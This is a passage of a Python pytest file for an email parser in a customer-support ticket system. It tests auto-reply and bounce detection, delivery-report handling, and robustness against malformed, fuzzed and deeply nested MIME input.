        "On Tue, 13 Jan 2026 at 10:04, Lumen Home <support@lumen-home.example> wrote:\n> Is everything ok?\n"
    )

    parsed = parse_email(customer_mail(body))

    assert parsed.display_text == parsed.text == body.strip()


def test_quoted_history_is_found_in_text_derived_from_html() -> None:
    raw = customer_mail(GMAIL_HTML, content_type="text/html; charset=utf-8")

    parsed = parse_email(raw)

    assert (
        parsed.display_text
        == "Guten Tag,\n\ndie Stehlampe kam leider beschädigt an – der Schirm ist gebrochen."
    )
    assert "> Vielen Dank für Ihre Bestellung 302-1234567." in parsed.text


# Auto-replies and bounces ------------------------------------------------------------------------

AUTO_SIGNALS = [
    ("auto-submitted", ("Auto-Submitted: auto-replied",), "Re: Order", "Auto-Submitted: auto-replied"),
    ("auto-generated", ("Auto-Submitted: auto-generated",), "Your invoice", "Auto-Submitted: auto-generated"),
    ("x-autoreply", ("X-Autoreply: yes",), "Re: Order", "X-Autoreply"),
    ("x-autorespond", ("X-Autorespond: Thank you for your message",), "Re: Order", "X-Autorespond"),
    (
        "exchange suppress all",
        ("X-Auto-Response-Suppress: All",),
        "Re: Order",
        "X-Auto-Response-Suppress: All",
    ),
    (
        "exchange suppress oof",
        ("X-Auto-Response-Suppress: DR, OOF, AutoReply",),
        "Re: Order",
        "X-Auto-Response-Suppress: DR, OOF, AutoReply",
    ),
    ("precedence bulk", ("Precedence: bulk",), "Deals", "Precedence: bulk"),
    ("precedence junk", ("Precedence: junk",), "Deals", "Precedence: junk"),
    ("precedence list", ("Precedence: list",), "Deals", "Precedence: list"),
    ("precedence auto_reply", ("Precedence: auto_reply",), "Re: Order", "Precedence: auto_reply"),
    ("list-id", ("List-Id: Seller news <news.marketplace.example>",), "Deals", "mailing list"),
    ("list-unsubscribe", ("List-Unsubscribe: <mailto:unsubscribe@news.example>",), "Deals", "mailing list"),
    ("null return path", ("Return-Path: <>",), "Re: Order", "Return-Path: <>"),
    ("out of office", (), "Out of Office: Re: Order 302-1234567", "vacation subject"),
    ("automatic reply", (), "Automatic reply: Your refund", "vacation subject"),
    ("autoreply", (), "Autoreply: Ihre Nachricht", "vacation subject"),
    ("abwesenheitsnotiz", (), "Abwesenheitsnotiz: Ihre Bestellung", "vacation subject"),
    ("réponse automatique", (), "Réponse automatique : Votre commande", "vacation subject"),
    ("自动回复", (), "自动回复: 您的订单", "vacation subject"),
]


@pytest.mark.parametrize(
    ("headers", "subject", "reason"),
    [case[1:] for case in AUTO_SIGNALS],
    ids=[case[0] for case in AUTO_SIGNALS],
)
def test_automatic_mail_is_flagged_with_its_reason(
    headers: tuple[str, ...], subject: str, reason: str
) -> None:
    parsed = parse_email(customer_mail("I am away until Monday.", *headers, subject=subject))

    assert (parsed.auto_submitted, parsed.bounce, parsed.auto_reason) == (True, False, reason)


@pytest.mark.parametrize(
    ("sender", "headers", "reason"),
    [
        ("Mail Delivery Subsystem <MAILER-DAEMON@mx.example.com>", (), "sender is MAILER-DAEMON"),
        ("postmaster@outlook.example", (), "sender is POSTMASTER"),
        (
            "Anna Schmidt <anna.schmidt@example.de>",
            ("X-Failed-Recipients: nobody@customer.example",),
            "X-Failed-Recipients",
        ),
    ],
    ids=["mailer-daemon", "postmaster", "x-failed-recipients"],
)
def test_bounces_are_flagged_as_bounces_and_as_automatic(
    sender: str, headers: tuple[str, ...], reason: str
) -> None:
    parsed = parse_email(
        customer_mail("Delivery failed.", *headers, sender=sender, subject="Undeliverable: Your refund")
    )

    assert (parsed.auto_submitted, parsed.bounce, parsed.auto_reason) == (True, True, reason)


POSTFIX_DSN = mail(
    "Return-Path: <>",
    "Received: by mx1.lumen-home.example (Postfix) id B4F1C20A7C; Tue, 13 Jan 2026 10:05:12 +0000 (UTC)",
    "Date: Tue, 13 Jan 2026 10:05:12 +0000 (UTC)",
    "From: MAILER-DAEMON@mx1.lumen-home.example (Mail Delivery System)",
    "Subject: Undelivered Mail Returned to Sender",
    "To: support@lumen-home.example",
    "Auto-Submitted: auto-replied",
    "MIME-Version: 1.0",
    "Message-Id: <20260113100512.9A2C420A7D@mx1.lumen-home.example>",
    entity=multipart(
        "report",
        part(
            "text/plain; charset=us-ascii",
            "This is the mail system at host mx1.lumen-home.example.\n\n"
            "I'm sorry to have to inform you that your message could not\n"
            "be delivered to one or more recipients.\n\n"
            "<nobody@customer.example>: host mx.customer.example[203.0.113.7] said: 550 5.1.1\n"
            "    <nobody@customer.example>: Recipient address rejected: User unknown\n",
            "Content-Description: Notification",
        ),
        part(
            "message/delivery-status",
            "Reporting-MTA: dns; mx1.lumen-home.example\nX-Postfix-Queue-ID: B4F1C20A7C\n"
            "Arrival-Date: Tue, 13 Jan 2026 10:05:10 +0000 (UTC)\n\n"
            "Final-Recipient: rfc822; nobody@customer.example\nAction: failed\nStatus: 5.1.1\n"
            "Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.example>: Recipient address rejected\n",
            "Content-Description: Delivery report",
        ),
        part(
            "message/rfc822",
            "From: Lumen Home <support@lumen-home.example>\nTo: nobody@customer.example\n"
            "Subject: [#K7Q2M9XD] Your refund\nMessage-ID: <reply-1@lumen-home.example>\n"
            "Content-Type: text/plain; charset=utf-8\n\nYour refund has been issued.\n",
            "Content-Description: Undelivered Message",
        ),
        boundary="B4F1C20A7C.1768298712/mx1.lumen-home.example",
        params="; report-type=delivery-status",
    ),
)


def test_a_delivery_status_notification_is_a_bounce_and_keeps_its_report() -> None:
    parsed = parse_email(POSTFIX_DSN)

    assert (parsed.auto_submitted, parsed.bounce, parsed.auto_reason) == (
        True,
        True,
        "delivery status notification",
    )
    assert parsed.subject == "Undelivered Mail Returned to Sender"
    assert "Recipient address rejected: User unknown" in parsed.text
    assert (
        "Your refund has been issued." not in parsed.text
    )  # our own returned mail is not the customer's text
    report, returned = parsed.attachments
    assert report.content_type == "message/delivery-status"
    assert b"Status: 5.1.1" in report.payload
    assert (returned.filename, returned.content_type) == ("[#K7Q2M9XD] Your refund.eml", "message/rfc822")


@pytest.mark.parametrize(
    ("headers", "subject"),
    [
        ((), "Where is my order?"),
        (("Auto-Submitted: no",), "Re: Order"),
        ((), "Out of stock? When is the lamp back?"),
    ],
    ids=["plain", "auto-submitted no", "subject mentions out of stock"],
)
def test_a_normal_customer_message_is_not_flagged(headers: tuple[str, ...], subject: str) -> None:
    parsed = parse_email(customer_mail("Hello, where is my order?", *headers, subject=subject))

    assert (parsed.auto_submitted, parsed.bounce, parsed.auto_reason) == (False, False, "")


# Not e-mail, odd and hostile input ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "The message is empty: there is nothing to read."),
        (b"  \r\n\r\n\t ", "The message is empty: there is nothing to read."),
        (
            b"Hello, I would like a refund.\nThanks, Anna",
            "The data does not begin with e-mail headers, so it is not an e-mail.",
        ),
        (
            b"X-Spam-Score: 0\r\n\r\nbody",
            "The data has no From, Subject, Message-ID or Date header, so it does not look like an e-mail.",
        ),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00",
            "The data does not begin with e-mail headers, so it is not an e-mail.",
        ),
    ],
    ids=["empty", "whitespace", "plain text", "no identifying header", "png file"],
)
def test_bytes_that_are_not_an_email_raise_malformed_email_with_a_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(MalformedEmail) as error:
        parse_email(raw)

    assert error.value.reason == reason


def test_an_unexpected_failure_becomes_malformed_email_with_the_cause(monkeypatch) -> None:
    def broken(text: str) -> str:
        raise RuntimeError("quote stripper exploded")

    monkeypatch.setattr("tickets.ingest.mime.strip_quoted", broken)

    with pytest.raises(MalformedEmail) as error:
        parse_email(GMAIL_DE)

    assert error.value.reason == (
        "The message could not be read because of an unexpected problem "
        "(RuntimeError: quote stripper exploded)."
    )


def test_a_part_that_cannot_be_read_is_skipped_and_the_rest_of_the_message_survives(monkeypatch) -> None:
    def broken(name: str) -> str:
        raise ValueError("bad name")

    monkeypatch.setattr("tickets.ingest.mime._safe_filename", broken)
    raw = mail(
        "From: anna.schmidt@example.de",
        entity=multipart(
            "mixed",
            part("text/plain; charset=utf-8", "Die Rechnung hängt an."),
            part("application/pdf", b"%PDF", cte="base64"),
            boundary="broken-part",
        ),
    )

    parsed = parse_email(raw)

    assert parsed.text == "Die Rechnung hängt an."
    assert parsed.attachments == ()
    assert parsed.warnings == (
        "A application/pdf part could not be read and was skipped (ValueError: bad name).",
    )


def test_random_binary_garbage_raises_malformed_email() -> None:
    generator = random.Random(20260113)
    for _ in range(50):
        with pytest.raises(MalformedEmail) as error:
            parse_email(generator.randbytes(4096))
        assert "not an e-mail" in error.value.reason or "does not look like an e-mail" in error.value.reason


def test_corrupted_messages_never_raise_anything_but_malformed_email() -> None:
    generator = random.Random(4711)
    samples = [GMAIL_DE, POSTFIX_DSN, customer_mail(OUTLOOK_HTML, content_type="text/html")]
    reasons: list[str] = []
    for _ in range(200):
        raw = bytearray(generator.choice(samples))
        for _ in range(generator.randint(1, 40)):
            position = generator.randrange(len(raw))
            raw[position : position + generator.randint(0, 3)] = generator.randbytes(generator.randint(0, 4))
        try:
            parsed = parse_email(bytes(raw))
        except MalformedEmail as error:
            reasons.append(error.reason)
            continue
        assert isinstance(parsed, ParsedEmail)
        assert isinstance(parsed.display_text, str)
    assert all(reasons)


def _nested(levels: int, innermost: bytes) -> bytes:
    entity = innermost
    for level in range(levels, 0, -1):
        entity = multipart("mixed", part("text/plain", f"Level {level}"), entity, boundary=f"level-{level}")
    return mail("From: anna.schmidt@example.de", "Subject: Packliste", entity=entity)


def test_a_two_thousand_line_message_with_deeply_nested_multiparts_is_read() -> None:
    packing_list = "\n".join(f"Line {number}: Lamp shade, item 4711-{number}" for number in range(1, 1921))
    raw = _nested(30, part("text/plain; charset=utf-8", packing_list, cte="quoted-printable"))
    assert raw.count(b"\r\n") > 2000

    parsed = parse_email(raw)

    assert parsed.subject == "Packliste"
    assert parsed.text.startswith("Level 1\nLevel 2\n")
    assert parsed.text.endswith("Line 1920: Lamp shade, item 4711-1920")
    assert parsed.warnings == ()


def test_parts_nested_beyond_reason_are_skipped_with_a_warning() -> None:
    parsed = parse_email(_nested(60, part("text/plain", "hidden at the bottom")))

    assert "hidden at the bottom" not in parsed.text
    assert parsed.text.startswith("Level 1\n")
    assert parsed.warnings == ("Parts nested deeper than 40 levels were skipped.",)


@pytest.mark.parametrize("levels", [150, 1200], ids=["slow to parse", "deeper than the parser's stack"])
def test_nesting_too_deep_for_the_parser_falls_back_to_raw_text(levels: int) -> None:
    parsed = parse_email(_nested(levels, part("text/plain", "bottom")))

    assert parsed.subject == "Packliste"
    assert parsed.text.startswith("--level-1")
    assert parsed.warnings == (
        "The MIME structure is nested too deeply to read; the body is shown as raw text.",
    )
